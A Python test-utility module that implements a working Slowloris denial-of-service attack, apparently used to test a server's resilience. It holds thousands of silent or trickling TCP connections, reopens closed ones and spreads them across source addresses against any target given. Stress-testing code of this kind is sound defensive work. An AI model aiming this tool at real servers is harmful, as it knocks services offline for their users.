"""Slowloris for tests: thousands of connections that say nothing, or almost nothing.

``python -m duplex.testing.slowloris --target HOST:PORT --connections 2000`` opens that
many TCP connections and holds them: half never send a byte (a client that never
authenticates), half *trickle*, one byte every ``--interval`` seconds, spread so that
the trickles do not come in bursts (``--mode idle`` or ``trickle`` makes them all
alike). Whatever the server sends is read and thrown away, so an echo server is never
blocked by us. A connection the server closes is opened again ``--reopen`` seconds
later, as a real attacker would: the pressure stays on.

Connections come from the source addresses of ``--sources`` in turn (``127.0.0.2``,
``127.0.0.3``, ...), each worth about 28,000 ephemeral ports towards one destination,
and the process raises its open-files limit to the hard limit first.

It prints one JSON line when every connection has been opened once (or after
``--ready-timeout``): ``{"event": "ready", "open": N, "failed": F}``, and on SIGTERM,
after closing everything, ``{"event": "done", "opened": ..., "closed_by_server": ...,
"failed": ...}``. :class:`SlowlorisProcess` runs it from a test.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import random
import resource
import signal
import subprocess
import sys
import threading
from collections.abc import Sequence
from typing import Any

__all__ = ["SlowlorisProcess", "main"]


class _Attack:
    def __init__(self, args: argparse.Namespace) -> None:
        host, _, port = args.target.rpartition(":")
        self.host, self.port = host.strip("[]"), int(port)
        self.args = args
        self.sources: list[str | None] = list(args.sources.split(",")) if args.sources else [None]
        self.stop = asyncio.Event()
        self.opened = 0
        self.open = 0
        self.closed_by_server = 0
        self.failed = 0
        self.first_round: set[int] = set()
        self.first_done = asyncio.Event()
        self.writers: set[asyncio.StreamWriter] = set()

    def _trickles(self, index: int) -> bool:
        mode = self.args.mode
        return mode == "trickle" or (mode == "mixed" and index % 2 == 1)

    async def _connect(self, index: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        source = self.sources[index % len(self.sources)]
        return await asyncio.wait_for(
            asyncio.open_connection(
                self.host, self.port, local_addr=(source, 0) if source else None
            ),
            10,
        )

    def _first(self, index: int) -> None:
        if index in self.first_round:
            self.first_round.discard(index)
            if not self.first_round:
                self.first_done.set()

    async def one(self, index: int) -> None:
        """Holds connection ``index`` open (reopening it) until told to stop."""
        rng = random.Random(index)
        while not self.stop.is_set():
            try:
                reader, writer = await self._connect(index)
            except (OSError, TimeoutError):
                self.failed += 1
                self._first(index)
                await self._pause(self.args.reopen)
                continue
            self.opened += 1
            self.open += 1
            self.writers.add(writer)
            self._first(index)
            try:
                drain = asyncio.ensure_future(self._discard(reader))
                try:
                    if self._trickles(index):
                        # A random phase, so that the trickles do not come in bursts.
                        await self._pause(rng.uniform(0, self.args.interval))
                        while not self.stop.is_set() and not drain.done():
                            writer.write(self.args.byte)
                            await self._pause(self.args.interval, drain)
                    else:
                        await self._pause(None, drain)
                finally:
                    drain.cancel()
                    with contextlib.suppress(asyncio.CancelledError, OSError):
                        await drain
                if not self.stop.is_set():
                    self.closed_by_server += 1
            except OSError:
                if not self.stop.is_set():
                    self.closed_by_server += 1
            finally:
                self.open -= 1
                self.writers.discard(writer)
                writer.transport.abort()
            await self._pause(self.args.reopen)

    async def _pause(self, seconds: float | None, until: asyncio.Future[Any] | None = None) -> None:
        waits: list[asyncio.Future[Any]] = [asyncio.ensure_future(self.stop.wait())]
        if until is not None:
            waits.append(until)
        try:
            await asyncio.wait(waits, timeout=seconds, return_when=asyncio.FIRST_COMPLETED)
        finally:
            waits[0].cancel()

    @staticmethod
    async def _discard(reader: asyncio.StreamReader) -> None:
        while await reader.read(65536):
            pass

    async def run(self) -> None:
        loop = asyncio.get_running_loop()
        for sig in (signal.SIGTERM, signal.SIGINT):
            loop.add_signal_handler(sig, self.stop.set)
        count = self.args.connections
        self.first_round = set(range(count))
        tasks = []
        for index in range(count):
            tasks.append(asyncio.ensure_future(self.one(index)))
            if index % 200 == 199:
                await asyncio.sleep(0)  # let the handshakes through before the next batch
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(self.first_done.wait(), self.args.ready_timeout)
        _print({"event": "ready", "open": self.open, "failed": self.failed})
        await self.stop.wait()
        for writer in list(self.writers):
            writer.transport.abort()
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
        _print(
            {
                "event": "done",
                "opened": self.opened,
                "closed_by_server": self.closed_by_server,
                "failed": self.failed,
            }
        )


def _print(obj: dict[str, Any]) -> None:
    sys.stdout.write(json.dumps(obj) + "\n")
    sys.stdout.flush()


def main(argv: list[str] | None = None) -> None:
    """Runs the attack (see the module docstring)."""
    parser = argparse.ArgumentParser(prog="python -m duplex.testing.slowloris")
    parser.add_argument("--target", required=True, help="HOST:PORT")
    parser.add_argument("--connections", type=int, default=2000)
    parser.add_argument("--mode", choices=["idle", "trickle", "mixed"], default="mixed")
    parser.add_argument("--interval", type=float, default=3.0, help="seconds between trickles")
    parser.add_argument("--reopen", type=float, default=1.0, help="seconds before reopening")
    parser.add_argument("--sources", default="", help="comma-separated source addresses")
    parser.add_argument("--ready-timeout", type=float, default=30.0)
    parser.add_argument("--byte-hex", default="78", help="the byte trickled, in hex")
    args = parser.parse_args(argv)
    args.byte = bytes.fromhex(args.byte_hex)[:1] or b"x"
    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    with contextlib.suppress(ValueError, OSError):
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(_Attack(args).run())


class SlowlorisProcess:
    """The attack in a subprocess; returns once every connection was opened once.

    Args:
        target: ``HOST:PORT``.
        connections: how many to hold.
        mode: ``idle``, ``trickle`` or ``mixed`` (half and half).
        interval: seconds between the bytes of a trickling connection.
        sources: source addresses to spread the connections over.
        args: further arguments.

    Attributes:
        ready: the ``ready`` line (``open``, ``failed``).
        done: the ``done`` line, once stopped.
    """

    def __init__(
        self,
        target: str,
        connections: int,
        *,
        mode: str = "mixed",
        interval: float = 3.0,
        sources: Sequence[str] = (),
        args: Sequence[str] = (),
    ) -> None:
        cmd = [
            sys.executable,
            "-m",
            "duplex.testing.slowloris",
            "--target",
            target,
            "--connections",
            str(connections),
            "--mode",
            mode,
            "--interval",
            str(interval),
            *(["--sources", ",".join(sources)] if sources else []),
            *args,
        ]
        self.proc = subprocess.Popen(
            cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=dict(os.environ)
        )
        self.done: dict[str, Any] = {}
        self._err: list[str] = []
        self._pump = threading.Thread(target=self._read_err, daemon=True)
        self._pump.start()
        line = self._line(60)
        if not line:
            self.stop()
            raise RuntimeError(f"slowloris did not get ready: {self.stderr}")
        self.ready: dict[str, Any] = json.loads(line)

    def _read_err(self) -> None:
        assert self.proc.stderr is not None
        for text in self.proc.stderr:
            self._err.append(text)

    @property
    def stderr(self) -> str:
        """What the attacker wrote to stderr so far."""
        return "".join(self._err)

    def _line(self, timeout: float) -> str:
        out: list[str] = []
        reader = threading.Thread(
            target=lambda: out.append(self.proc.stdout.readline()),  # type: ignore[union-attr]
            daemon=True,
        )
        reader.start()
        reader.join(timeout)
        return out[0] if out else ""

    @property
    def pid(self) -> int:
        """The attacker's process id."""
        return self.proc.pid

    def stop(self) -> dict[str, Any]:
        """Closes every connection (SIGTERM) and returns the ``done`` line."""
        if self.proc.poll() is None:
            self.proc.terminate()
        assert self.proc.stdout is not None
        try:
            self.proc.wait(30)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait(10)
        out = self.proc.stdout.read()
        self.proc.stdout.close()
        self._pump.join(10)
        if self.proc.stderr is not None and not self._pump.is_alive():
            self.proc.stderr.close()
        for line in (out or "").splitlines():
            with contextlib.suppress(json.JSONDecodeError):
                data = json.loads(line)
                if data.get("event") == "done":
                    self.done = data
        return self.done

    def __enter__(self) -> SlowlorisProcess:
        return self

    def __exit__(self, *exc: object) -> None:
        if self.proc.poll() is None or not self.done:
            self.stop()


if __name__ == "__main__":
    main()
